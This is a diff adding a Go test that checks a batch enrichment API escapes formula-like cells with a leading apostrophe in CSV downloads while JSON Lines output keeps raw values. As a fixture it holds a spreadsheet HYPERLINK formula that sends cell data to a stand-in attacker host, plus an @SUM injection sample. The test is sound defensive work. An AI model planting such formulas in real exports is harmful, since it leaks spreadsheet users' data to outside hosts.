@@ -347,3 +347,34 @@ func TestBatchDoesNotHoldUpAnotherOrganization(t *testing.T) {
 	is.True(claimed[0] == q.str("task.id") || claimed[1] == q.str("task.id"))
 	is.True(count(e.do("GET", "/v1/batches/"+r.str("data.id"), nil), "queued") >= 98)
 }
+
+// A cell that a spreadsheet would run as a formula (it starts with = + - @, a tab or a
+// carriage return) is written with a leading apostrophe in a downloaded CSV, whether
+// it came from the upload or from a source's result; a number stays a number, and
+// JSON Lines keeps every value as it is.
+func TestBatchResultsCSVDefusesFormulas(t *testing.T) {
+	is := is.New(t)
+	e := newEnv(t)
+	c := company("Acme", "acme.com")
+	c.Name = `=HYPERLINK("http://evil.example/?"&A1,"Acme")`
+	e.net.addCompany(c)
+	e.startWorkers()
+
+	r := e.uploadCSV("domain,owner,note,score\nacme.com,@SUM(1+1),+1 555 0100,-12.5\n", "")
+	is.Equal(r.status, http.StatusAccepted)
+	id := r.str("data.id")
+	e.waitBatchDone(id)
+
+	recs := readCSV(t, e.do("GET", "/v1/batches/"+id+"/results", nil).raw)
+	is.Equal(len(recs), 2)
+	is.Equal(recs[1][:4], []string{"acme.com", "'@SUM(1+1)", "'+1 555 0100", "-12.5"})
+	is.Equal(recs[1][4], "succeeded")
+	is.Equal(recs[0][8], "enrichd_name")
+	is.Equal(recs[1][8], `'=HYPERLINK("http://evil.example/?"&A1,"Acme")`)
+
+	jl := e.do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
+	var row map[string]string
+	is.NoErr(json.Unmarshal(jl.raw, &row))
+	is.Equal(row["owner"], "@SUM(1+1)")
+	is.Equal(row["enrichd_name"], c.Name)
+}
